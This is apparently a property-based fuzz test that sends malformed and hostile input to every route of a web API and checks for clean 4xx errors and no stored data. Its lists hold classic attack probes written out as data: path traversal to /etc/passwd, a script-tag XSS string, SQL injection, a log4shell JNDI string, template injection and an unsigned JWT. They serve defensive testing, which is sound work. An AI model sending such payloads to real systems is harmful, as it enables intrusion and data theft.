import fc from 'fast-check';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { ROUTES, type Route } from '../../shared/api/routes';
import { GATEWAY_ANSWERS } from '../../shared/api/runtime';
import type { Role } from '../../shared/domain/roles';
import { api, baseUrl, login, uniq } from '../support/api';
import { createDcc, createPackage, seededUser, uploadPatch } from '../support/fixtures';
import { confirmByMail } from '../support/identity';
import { errorMessageOf, type RawResponse, rawRequest } from '../support/raw-http';
import { dynamoAt, s3At, storeSnapshot } from '../support/store';

/**
 * Generated malformed input against every row of the route table, each sent with a token of a role the
 * row allows (so the gate is passed and the input reaches parsing, validation and the service): never a
 * 5xx, always `{ errorMessage: string }` on a 4xx, never a stack trace, and nothing stored — the tables
 * and buckets are identical before and after each route's run.
 */

const RUNS_PER_ROUTE = 24;

/** Field names of the shared contracts: objects built from them reach the validators' real branches. */
const FIELDS = [
  'login',
  'password',
  'email',
  'name',
  'userRole',
  'oldPassword',
  'newPassword',
  'packageName',
  'packageType',
  'note',
  'header',
  'fields',
  'value',
  'approvers',
  'role',
  'id',
  'signer',
  'rejection-reason',
  'ids',
  'deviceId',
  'telemetryType',
  'messageLimit',
  'deviceLimit',
  'resourceType',
  'resourceStage',
  'fileName',
  'sizeBytes',
  'metadataFileName',
  'metadataSizeBytes',
  'expiresInSeconds',
  'token',
  'grant',
  'refuse',
  '__proto__',
  'constructor',
];

const hostileText = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  // lone surrogates and other code points that are not valid UTF-16 text
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '\uD800',
    '../../etc/passwd',
    '<script>alert(1)</script>',
    "' OR '1'='1",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
    '${jndi:ldap://x/a}',
    '{{7*7}}',
    'PKG#x',
    'NaN',
    '-1',
    '1e309',
    '0x10',
    '=====',
    'not*base64!',
    'data:;base64,@@@',
  ),
  // huge strings around the 256 KiB JSON body limit (and far above the 4 KiB one of identity routes)
  fc.integer({ min: 100_000, max: 300_000 }).map((n) => 'x'.repeat(n)),
);

const { value: hostileValue } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileText,
    fc.integer(),
    fc.double(),
    fc.constantFrom(null, true, false, 0, -0, 2 ** 53 + 1, -1, 1e308),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.constantFrom(...FIELDS), tie('value'), { maxKeys: 5 }),
  ),
}));

/** Well-formed JSON documents, serialised: none of them is a valid request of the route. */
const hostileJson = fc.oneof(
  fc
    .oneof(
      hostileValue,
      fc.jsonValue({ maxDepth: 3 }),
      fc.dictionary(fc.constantFrom(...FIELDS), hostileValue, { minKeys: 1, maxKeys: 6 }),
    )
    .map((v) => JSON.stringify(v) ?? 'null'),
  // deeply nested documents
  fc
    .tuple(fc.constantFrom(...FIELDS), fc.integer({ min: 1000, max: 50_000 }))
    .map(([field, n]) => `{"${field}":${'['.repeat(n)}${']'.repeat(n)}}`),
);

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/octet-stream',
  'multipart/form-data',
  'multipart/form-data; boundary=----x',
  'multipart/form-data; boundary=',
  'application/json; charset=utf-16',
  'image/png',
  ';;;',
  'a'.repeat(2000),
];

const notJsonText = fc
  .oneof(
    fc.constantFrom(
      '{',
      '{"a":',
      "{'a':1}",
      '[1,]',
      'undefined',
      'NaN',
      '{"a":1}}',
      '\u0000{}',
      '<xml/>',
      '--x\r\n',
    ),
    fc.string({ minLength: 1, maxLength: 200 }).map((s) => `{${s}`),
    fc.string({ minLength: 1, maxLength: 200 }).map((s) => `${s}}}`),
    // '{' + '}' (or ' }') is valid JSON after all: such a draw is not a "not JSON" case
  )
  .filter((t) => {
    try {
      JSON.parse(t);
      return false;
    } catch {
      return true;
    }
  });

// invalid UTF-8 (a leading 0xff byte is never valid) followed by anything
const invalidUtf8 = fc
  .uint8Array({ minLength: 0, maxLength: 2048 })
  .map((b) => Buffer.concat([Buffer.from([0xff, 0xfe, 0x7b]), Buffer.from(b)]));

const headerSafe = (s: string) => s.replace(/[^\t\x20-\x7e\x80-\xff]/g, '');
const garbageAuthorization = fc.oneof(
  fc.constantFrom(
    'Bearer',
    'Bearer ',
    'bearer x.y.z',
    'Basic YWRtaW46TG9jYWwtRGV2LTEyMzQ=',
    'Bearer null',
    'Bearer eyJhbGciOiJub25lIn0.e30.',
    'Bearer a.b.c.d',
    'Bearer ..',
    `Bearer ${'a'.repeat(6000)}`,
    'Token abc',
  ),
  fc.string({ maxLength: 300 }).map((s) => `Bearer ${headerSafe(s)}`),
  fc.string({ maxLength: 300 }).map(headerSafe),
  fc.base64String({ maxLength: 400 }).map((s) => `Bearer ${s}.${s}.${s}`),
);

const pctBytes = (s: string) =>
  [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
const oddSegment = fc.oneof(
  fc.constantFrom(
    '..',
    '.',
    '%2e%2e',
    '%2E%2E%2F%2E%2E',
    '..%2F..%2Fadmin%2Fusers',
    '%00',
    '%',
    '%zz',
    '%E0%A4%A',
    '%ED%A0%80',
    '%C0%AE',
    '%252e',
    '%20',
    'PKG%23PKG',
    ';',
    '*',
    '~',
    '%F0%9F%92%A5',
  ),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }).map(pctBytes),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }).map(pctBytes),
  // very long, yet within API Gateway's 8 KB URL (longer ones never reach a handler there)
  fc.integer({ min: 65, max: 3500 }).map((n) => 'a'.repeat(n)),
);
/** Names that are also properties of every JavaScript object: a map keyed by caller input must not trip on them. */
const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype'];
const oddQuery = fc.option(
  fc
    .array(
      fc.tuple(
        fc.oneof(fc.constantFrom('name', 'signers', 'stage', 'id', ...PROTOTYPE_NAMES), oddSegment),
        oddSegment,
      ),
      {
        minLength: 1,
        maxLength: 3,
      },
    )
    .map((pairs) => `?${pairs.map(([k, v]) => `${k}=${v}`).join('&')}`.slice(0, 4000)),
  { nil: '' },
);

const oddHeaders = fc.dictionary(
  fc.constantFrom(...PROTOTYPE_NAMES, 'X-Forwarded-For', 'Origin', 'Cookie', 'X-Http-Method-Override'),
  fc.string({ maxLength: 100 }).map(headerSafe),
  { maxKeys: 3 },
);

type Case =
  | { kind: 'json'; body: string; contentType: string; query: string; headers: Record<string, string> }
  | { kind: 'notJson'; body: string | Buffer; contentType: string }
  | { kind: 'authorization'; authorization: string; contentType: string }
  | { kind: 'path'; segments: Record<string, string>; query: string };

function casesFor(r: Route): fc.Arbitrary<Case> {
  const params = [...r.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
  const json = fc.record({
    kind: fc.constant('json' as const),
    body: hostileJson,
    contentType: fc.constantFrom(...CONTENT_TYPES),
    query: oddQuery,
    headers: oddHeaders,
  });
  const notJson = fc.record({
    kind: fc.constant('notJson' as const),
    body: fc.oneof(notJsonText, invalidUtf8),
    contentType: fc.constantFrom(...CONTENT_TYPES),
  });
  const authorization = fc.record({
    kind: fc.constant('authorization' as const),
    authorization: garbageAuthorization,
    contentType: fc.constantFrom(...CONTENT_TYPES),
  });
  const path = fc.record({
    kind: fc.constant('path' as const),
    segments: fc.record(
      Object.fromEntries(params.map((p) => [p, oddSegment])) as Record<string, fc.Arbitrary<string>>,
    ),
    query: oddQuery,
  });
  // Logout takes no input but its token: any well-formed call is a real logout, so only broken ones are sent.
  if (r.id === 'logout') return fc.oneof(notJson, authorization);
  // Starting a company sign-in takes no input either: any well-formed call is a real start (it keeps the
  // sign-in under way for ten minutes, decision 315), so only broken ones are sent.
  // The public start reads no token either: a call with a broken one is still a real start.
  if (r.id === 'startCompanySignOn') return notJson;
  if (r.id === 'startCompanyReauth') return fc.oneof(notJson, authorization);
  return params.length > 0
    ? fc.oneof(json, notJson, authorization, path)
    : fc.oneof(json, notJson, authorization);
}

let tokens: Record<'designDev' | 'release' | 'admin' | 'logout', string>;
let ids: { packageId: string; resourceId: string };

/** A token of a role the row allows; public rows are called without one. */
function tokenFor(r: Route): string | undefined {
  if (r.id === 'logout') return tokens.logout;
  if (r.access === 'public') return undefined;
  if (r.access === 'signedIn') return tokens.designDev;
  const roles = r.access as readonly Role[];
  if (roles.includes('DESIGN_ENGINEER_DEV')) return tokens.designDev;
  if (roles.includes('SW_FW_RELEASE_ENGINEER')) return tokens.release;
  return tokens.admin;
}

/** Real ids where the row names one, so bodies reach the service's checks on a real DRAFT package. */
function pathOf(r: Route, override: Record<string, string> = {}): string {
  return `/dev${r.path.replace(/\{(\w+)\}/g, (_, name: string) => {
    if (override[name] !== undefined) return override[name]!;
    if (name === 'stage') return 'dev';
    if (name === 'id') return r.path.startsWith('/resources/') ? ids.resourceId : ids.packageId;
    return `no-such-${name.toLowerCase()}`;
  })}`;
}

function send(r: Route, c: Case): Promise<RawResponse> {
  const token = tokenFor(r);
  const auth: Record<string, string> = token ? { Authorization: `Bearer ${token}` } : {};
  switch (c.kind) {
    case 'json':
      return rawRequest(baseUrl(), {
        method: r.method,
        path: `${pathOf(r)}${c.query}`,
        headers: { ...c.headers, ...auth, 'Content-Type': c.contentType },
        body: c.body,
      });
    case 'notJson':
      return rawRequest(baseUrl(), {
        method: r.method,
        path: pathOf(r),
        headers: { ...auth, 'Content-Type': c.contentType },
        body: c.body,
      });
    case 'authorization':
      return rawRequest(baseUrl(), {
        method: r.method,
        path: pathOf(r),
        headers: { Authorization: c.authorization, 'Content-Type': c.contentType },
      });
    case 'path':
      return rawRequest(baseUrl(), {
        method: r.method,
        path: `${pathOf(r, c.segments)}${c.query}`,
        headers: auth,
      });
  }
}

function describeCase(c: Case): string {
  const short = (v: unknown) => {
    const s = typeof v === 'string' ? v : Buffer.isBuffer(v) ? `<${v.length} bytes>` : JSON.stringify(v);
    return s.length > 200 ? `${s.slice(0, 200)}… (${s.length} chars)` : s;
  };
  return `${c.kind} ${short('body' in c ? c.body : 'segments' in c ? c.segments : c.authorization)}`;
}

function checkAnswer(r: Route, c: Case, res: RawResponse) {
  const what = `${r.method} ${r.path} with ${describeCase(c)} → ${res.status} ${res.text.slice(0, 300)}`;
  // a row whose behaviour is not built yet answers 501 to everything; any other 5xx is a fault
  if (res.status !== 501) expect(res.status, what).toBeLessThan(500);
  expect(res.text, what).not.toMatch(/\bat .+\.[jt]s:\d+|node_modules|ECONNREFUSED|\$metadata/);
  // API Gateway's own answers (e.g. 403 for a path no route matches) carry `message`, as in AWS (decision 090)
  const gateway = Object.values(GATEWAY_ANSWERS).some((a) => a.status === res.status && a.body === res.text);
  if (res.status >= 400 && !gateway) {
    expect(String(res.headers['content-type']), what).toContain('application/json');
    expect(typeof errorMessageOf(res), what).toBe('string');
    expect(errorMessageOf(res)!.length, what).toBeGreaterThan(0);
  }
  if (c.kind === 'notJson' && res.status !== 501) expect([400, 413], what).toContain(res.status);
  if (c.kind === 'authorization' && r.access !== 'public')
    expect([400, 401, 413], what).toContain(res.status);
}

const ddb = () => dynamoAt(inject('dynamoEndpoint'));
const s3 = () => s3At(inject('s3Endpoint'));

beforeAll(async () => {
  const u = {
    designDev: await seededUser('designDev'),
    release: await seededUser('release'),
    admin: await seededUser('admin'),
  };
  const resource = await uploadPatch(u.designDev.token, 'dev');
  const pkg = await createPackage(u.designDev.token, resource.id, 'DEV_SIGNED');
  const dccId = await createDcc(u.designDev.token);
  const attached = await api(`/packages/${pkg.id}/dcc/${dccId}`, {
    method: 'POST',
    token: u.designDev.token,
  });
  expect(attached.status).toBe(200);
  ids = { packageId: pkg.id, resourceId: resource.id };
  // a user of its own for the logout row, so a logout that wrongly went through would not sign out the others
  const email = `${uniq('bad-input')}@example.com`;
  const password = 'Bad-Input-Pass-1';
  const reg = await api<{ user: string }>('/user/register', {
    method: 'POST',
    body: { name: 'Bad Input', email, password, userRole: 'TECHNICAL_LEADER' },
  });
  expect(reg.status).toBe(201);
  await confirmByMail(email, password);
  tokens = {
    designDev: u.designDev.token,
    release: u.release.token,
    admin: u.admin.token,
    logout: await login(email, password),
  };
}, 120_000);

describe('malformed input on every route', () => {
  it.each(ROUTES.map((r) => [`${r.method} ${r.path}`, r] as const))(
    '%s answers a clear 4xx and stores nothing',
    async (_, r) => {
      const before = await storeSnapshot(ddb(), s3());
      await fc.assert(
        fc.asyncProperty(casesFor(r), async (c) => {
          checkAnswer(r, c, await send(r, c));
        }),
        { numRuns: RUNS_PER_ROUTE },
      );
      expect(await storeSnapshot(ddb(), s3()), `${r.id} stored something`).toEqual(before);
    },
    90_000,
  );
});
